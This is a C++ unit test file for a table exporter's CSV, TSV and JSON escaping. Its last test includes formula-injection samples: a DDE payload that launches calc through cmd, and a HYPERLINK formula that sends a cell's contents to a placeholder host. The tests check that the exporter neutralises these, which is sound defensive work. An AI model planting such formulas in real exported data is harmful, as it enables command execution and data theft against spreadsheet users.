#include "tables/table.h"

#include <gtest/gtest.h>

#include "tables/text_escape.h"

namespace numtrail::tables {
namespace {

// A table over rows of any width, as the window's tables and a service page make them.
Table Rows(std::vector<std::string_view> header,
           const std::vector<std::vector<std::string_view>>& rows) {
    return {std::move(header), rows.size(),
            [&rows](std::size_t r, std::vector<std::string_view>& cells) { cells = rows[r]; }};
}

TEST(CsvTable, QuotesOnlyWhatNeedsItAndEndsEveryRecordInCrLf) {
    const std::vector<std::vector<std::string_view>> rows = {
        {"13800138000", "北京", "北京", "010", "100000", "中国移动"},
        {"13912345678", "江苏", "", "0519", "", ""},  // empty fields stay empty
        {"1", "a,b", "say \"hi\"", "two\r\nlines", "lone\nLF", " blank "},
        {"2", "\"", ",", "", "", "\r"}};
    const std::string expected =
        "\xEF\xBB\xBF"
        "手机号码,所属省份\r\n"
        "13800138000,北京,北京,010,100000,中国移动\r\n"
        "13912345678,江苏,,0519,,\r\n"
        "1,\"a,b\",\"say \"\"hi\"\"\",\"two\r\nlines\",\"lone\nLF\", blank \r\n"
        "2,\"\"\"\",\",\",,,\"'\r\"\r\n";  // a CR first is a formula start
    EXPECT_EQ(CsvTable(Rows({"手机号码", "所属省份"}, rows)), expected);
}

// The window's table of records: its headers, a record's cells in column order.
TEST(CsvTable, RecordsInTheResultListsColumns) {
    attribution::Record row{"江苏", "常州", "213000", "0519", "中国移动"};
    row.number = "13905191234";
    EXPECT_EQ(CsvTable(ResultTable({&row, 1})),
              "\xEF\xBB\xBF手机号码,所属省份,所属城市,区号,邮编,号码类型\r\n"
              "13905191234,江苏,常州,0519,213000,中国移动\r\n");
}

// Each format's reserved bytes, and nothing else, are escaped.
TEST(TextEscape, EachFormatEscapesItsOwnBytes) {
    struct Case {
        std::string_view field, csv, tsv, json;
    };
    const Case cases[] = {
        {"江苏 a", "江苏 a", "江苏 a", "\"江苏 a\""},
        {"a\tb", "a\tb", "a\\tb", "\"a\\tb\""},
        {"a\\b", "a\\b", "a\\\\b", "\"a\\\\b\""},
        {"x\r\ny", "\"x\r\ny\"", "x\\r\\ny", "\"x\\u000D\\u000Ay\""},
        {"say \"hi\",", "\"say \"\"hi\"\",\"", "say \"hi\",", "\"say \\\"hi\\\",\""},
        {std::string_view("\x01", 1), "\x01", "\x01", "\"\\u0001\""},
    };
    for (const Case& c : cases) {
        std::string csv, tsv, json;
        AppendCsvField(csv, c.field);
        AppendTsvField(tsv, c.field);
        AppendJsonString(json, c.field);
        EXPECT_EQ(csv, c.csv) << c.field;
        EXPECT_EQ(tsv, c.tsv) << c.field;
        EXPECT_EQ(json, c.json) << c.field;
        EXPECT_EQ(NeedsCsvQuotes(c.field), csv != c.field) << c.field;
    }
}

// A cell a spreadsheet would run as a formula is written as text, quoted or not, in both
// formats; a formula character anywhere but at the start is no formula.
TEST(TextEscape, CellsThatStartLikeAFormulaAreWrittenAsText) {
    struct Case {
        std::string_view field, csv, tsv;
    };
    const Case cases[] = {
        {"=1+1", "'=1+1", "'=1+1"},
        {"+86 138", "'+86 138", "'+86 138"},
        {"-1", "'-1", "'-1"},
        {"@SUM(A1)", "'@SUM(A1)", "'@SUM(A1)"},
        {"\tx", "'\tx", "'\\tx"},
        {"\r=x", "\"'\r=x\"", "'\\r=x"},
        {"=HYPERLINK(\"http://a/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://a/?\"\"&A1,\"\"x\"\")\"",
         "'=HYPERLINK(\"http://a/?\"&A1,\"x\")"},
        {"a=1", "a=1", "a=1"},
        {"1-2", "1-2", "1-2"},
        {" =1", " =1", " =1"},
        {"'", "'", "'"},
    };
    for (const Case& c : cases) {
        std::string csv, tsv;
        AppendCsvField(csv, c.field);
        AppendTsvField(tsv, c.field);
        EXPECT_EQ(csv, c.csv) << c.field;
        EXPECT_EQ(tsv, c.tsv) << c.field;
        EXPECT_EQ(CsvFieldAsIs(c.field), csv == c.field) << c.field;
    }
    // The window's CSV export, through the same cells.
    const attribution::Record row{"=cmd|' /C calc'!A0", "-", "+1", "@x", "中国移动"};
    std::string table = CsvTable(ResultTable({&row, 1}));
    EXPECT_EQ(table.substr(table.find("\r\n") + 2), ",'=cmd|' /C calc'!A0,'-,'@x,'+1,中国移动\r\n");
}

}  // namespace
}  // namespace numtrail::tables
